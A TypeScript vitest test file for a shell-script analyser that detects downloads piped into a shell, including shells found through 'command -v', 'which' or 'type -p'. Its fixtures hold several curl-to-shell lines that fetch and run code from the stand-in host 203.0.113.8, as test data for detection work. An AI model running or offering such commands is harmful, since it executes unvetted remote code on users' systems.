import { expect, test } from "vitest";
import { tellShell } from "./read.ts";

const RUN = "evaluate shell ~⟨?⟩ ← network http://203.0.113.8/k";
const evaluated = (script: string): readonly string[] =>
  tellShell(script)
    .operations.filter((line) => line.includes("evaluate"))
    .map((line) => line.replace(/^\S+ /u, ""));

test.each([
  ["command -v", "curl http://203.0.113.8/k | $(command -v bash)"],
  ["which, kept", "S=$(which sh)\ncurl http://203.0.113.8/k | $S"],
  ["type -p", "curl http://203.0.113.8/k | $(type -p zsh)"],
  ["one of two", "S=$(command -v bash || command -v sh)\ncurl http://203.0.113.8/k | $S"],
  ["a name that is never used behind it", "S=$(command -v sh || echo jq)\ncurl http://203.0.113.8/k | $S"],
])("a shell that is looked up runs what comes through the pipe: %s", (_, script) => {
  expect(evaluated(script)).toEqual([RUN]);
});

test.each([
  ["jq", "JQ=$(command -v jq)\ncurl http://203.0.113.8/k | $JQ ."],
  ["jq or a path", 'JQ="$(command -v jq || echo /usr/local/bin/jq)"\ncurl http://203.0.113.8/k | $JQ .'],
  ["is it there?", "if command -v bash >/dev/null; then curl http://203.0.113.8/k | jq .; fi"],
])("a filter does not: %s", (_, script) => {
  expect(evaluated(script)).toEqual([]);
});
